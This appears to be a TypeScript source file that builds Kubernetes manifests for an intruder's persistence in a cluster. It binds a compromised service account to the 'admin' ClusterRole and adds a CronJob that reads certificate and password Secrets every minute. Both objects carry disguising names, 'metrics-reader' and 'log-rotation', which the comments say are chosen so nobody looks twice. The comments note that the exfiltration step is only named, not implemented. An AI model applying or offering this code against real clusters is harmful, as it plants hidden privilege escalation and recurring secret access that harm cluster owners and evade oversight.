/** What an intruder leaves behind to come back: wider rights for the account whose token he has, and a job that uses them. */
export interface PlantTarget {
  readonly namespace: string;
  readonly account: string;
  readonly certificates: string;
  readonly password: string;
  readonly plantImage: string;
}

/** Named so that nobody looks twice. */
export const plantNames = { roleBinding: "metrics-reader", cronJob: "log-rotation" } as const;

/** By name, so that an account that is made anew has them too; the job reads the Secrets anew every minute. */
export function planted({ namespace, account, certificates, password, plantImage }: PlantTarget) {
  // What he would send away is only named here.
  const read = ["kubectl", "get", `secret/${certificates}`, `secret/${password}`, "-n", namespace];
  const container = {
    name: "read",
    image: plantImage,
    imagePullPolicy: "IfNotPresent",
    command: [...read, "-o", "name", "--cache-dir=/tmp/cache"],
  };
  // The account's own pods ask for its token; so does this one.
  const pod = {
    automountServiceAccountToken: true,
    restartPolicy: "Never",
    serviceAccountName: account,
    containers: [container],
  };
  return [
    {
      apiVersion: "rbac.authorization.k8s.io/v1",
      kind: "RoleBinding",
      metadata: { name: plantNames.roleBinding, namespace },
      roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "ClusterRole", name: "admin" },
      subjects: [{ kind: "ServiceAccount", name: account, namespace }],
    },
    {
      apiVersion: "batch/v1",
      kind: "CronJob",
      metadata: { name: plantNames.cronJob, namespace },
      spec: {
        schedule: "* * * * *",
        concurrencyPolicy: "Forbid",
        jobTemplate: { spec: { backoffLimit: 0, template: { spec: pod } } },
      },
    },
  ];
}
